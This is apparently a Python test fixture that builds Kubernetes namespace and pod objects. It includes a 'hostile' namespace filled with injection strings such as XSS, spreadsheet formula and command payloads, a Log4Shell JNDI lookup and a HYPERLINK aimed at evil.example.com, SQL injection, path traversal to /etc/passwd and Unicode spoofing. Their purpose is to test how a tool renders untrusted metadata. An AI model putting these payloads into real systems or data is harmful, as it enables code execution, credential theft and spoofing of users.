"""Namespaces that say whose they are and how much they matter, and objects whose words are hostile. Refuses nothing:
a server that was taken over would not either."""

import blocks
import controllers
from blocks import Reference, by_tag, container, image

HOSTILE = "hostile"
POD_SECURITY = "pod-security.kubernetes.io/"
# (labels, annotations) of each namespace, in the words of several houses.
SPACES = {
    "default": ({}, {}),
    "kube-system": ({}, {}),
    "plimsoll": ({POD_SECURITY + "enforce": "restricted", POD_SECURITY + "enforce-version": "latest"}, {}),
    "shop": (
        {"environment": "production", "team": "storefront", "criticality": "high", POD_SECURITY + "enforce": "baseline", POD_SECURITY + "warn": "restricted"},
        {"owner": "storefront@example.com", "contact.example.com/pager": "https://pager.example.com/storefront"},
    ),
    "ledger": (
        {"app.kubernetes.io/environment": "prod", "owner": "payments", "tier": "critical", "data-classification": "pci"},
        {"plimsoll.io/owner": "payments@example.com", "plimsoll.io/criticality": "critical"},
    ),
    "build": ({"env": "dev", "team": "platform", POD_SECURITY + "enforce": "privileged", POD_SECURITY + "audit": "baseline"}, {"description": "Builds and trains"}),
    "edge": ({"environment": "staging", "istio-injection": "enabled"}, {"field.cattle.io/projectId": "c-m-x1y2z3:p-abcde"}),
    HOSTILE: ({"team": "=cmd|'/c calc'!A1"}, {"owner": "<script>alert(1)</script>", "environment": "\u202eproduction\u0007"}),
    "empty": ({}, {}),
}
LONG = "a" * 62 + "z"
WORDS = {
    "html": "<img src=x onerror=alert(1)>",
    "quotes": "\"'><b>`${7*7}{{7*7}}",
    "control": "bell\u0007 escape\u001b[31mred null\u0000 tab\t line\r\nheader: x",
    "formula": '=HYPERLINK("https://evil.example.com","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "sql": "'); DROP TABLE images; --",
    "template": "{% raw %}{{ config }}",
    "jndi": "${jndi:ldap://evil.example.com/a}",
    "path": "../../../../etc/passwd",
    "right-to-left": "\u202egpj.exe",
    "unicode": "контейнер 容器 🚢 e\u0301",
    "zero-width": "ad\u200bmin\ufeff",
    "script-address": "javascript:alert(document.domain)",
    "percent": "%s%n%00%0d%0a",
}
BROKEN_IMAGES = {
    "empty": "",
    "spaces": "registry.example.com/shop/web :1.0",
    "upper": "Registry.Example.com/Shop/WEB:Latest",
    "two-tags": "registry.example.com/shop/web:1.0:2.0",
    "short-digest": "registry.example.com/shop/web@sha256:abc",
    "other-algorithm": "registry.example.com/shop/web@sha512:" + "0" * 128,
    "unknown-algorithm": "registry.example.com/shop/web@md5:d41d8cd98f00b204e9800998ecf8427e",
    "scheme": "https://registry.example.com/shop/web:1.0",
    "html": "<b>web</b>:1",
    "traversal": "registry.example.com/../../web:1",
    "unicode": "registry.example.com/shop/wеb:1.0",
    "long": "registry.example.com/" + "a/" * 2000 + "web:1",
    "control": "registry.example.com/shop/web:1\u0000\n",
    "only-digest": "sha256:" + "1" * 64,
    "at-only": "@",
    "colon-only": ":",
    "variable": "${IMAGE}:${TAG}",
    "template": "{{ .Values.image }}",
}


def lay(site):
    for name, (labels, annotations) in SPACES.items():
        site.lay(space(name, labels, annotations), f"namespace-{name}")
    leaving = space("leaving", {}, {})
    leaving["metadata"]["deletionTimestamp"] = "2026-11-20T07:00:00Z"
    leaving["status"]["phase"] = "Terminating"
    site.lay(leaving, "namespace-terminating")


def space(name, labels=None, annotations=None):
    return {
        "apiVersion": "v1",
        "kind": "Namespace",
        "metadata": blocks.metadata(None, name, {"kubernetes.io/metadata.name": name, **(labels or {})}, annotations),
        "spec": {"finalizers": ["kubernetes"]},
        "status": {"phase": "Active"},
    }


def lay_hostile(site):
    """Words that break pages, tables, terminals, logs, and readers of images."""
    made = by_tag(image("hostile/web", "1.0.0"))
    site.pod(HOSTILE, "words", [container("web", made)], case="hostile-words", labels={name: word for name, word in WORDS.items()}, annotations=WORDS)
    controllers.replicated(site, HOSTILE, LONG, [container(LONG, made)], replicas=1, case="hostile-long-name", labels={LONG: LONG, "example.com/" + LONG: LONG})
    site.pod(HOSTILE, "annotated", [container("web", made)], case="hostile-annotation", annotations={"example.com/large": "x" * 200_000})
    site.pod(HOSTILE, "n" * 253, [container("web", made)], case="hostile-longest-name")
    environment = [{"name": "EVIL", "value": word} for word in WORDS.values()]
    site.pod(HOSTILE, "environment", [container("web", made, env=environment, command=list(WORDS.values()))], case="hostile-environment")
    many = [container(f"c-{number}", made) for number in range(60)]
    site.pod(HOSTILE, "many", many, case="hostile-many-containers")
    for name, written in BROKEN_IMAGES.items():
        site.pod(
            HOSTILE,
            f"image-{name}",
            [container("web", Reference(written, ""), state=blocks.waiting("InvalidImageName", f'Failed to apply default image tag "{written[:80]}": couldn\'t parse image name'))],
            case=f"image-{name}",
            phase="Pending",
        )
    for name, identity in {
        "words": "not an image at all",
        "short": f"{made.shown.rpartition(':')[0]}@sha256:12",
        "html": "<b>@sha256:" + "0" * 64,
        "twice": "docker-pullable://docker-pullable://" + made.identity,
    }.items():
        site.pod(HOSTILE, f"id-{name}", [container("web", made, identity)], case=f"image-id-{name}")
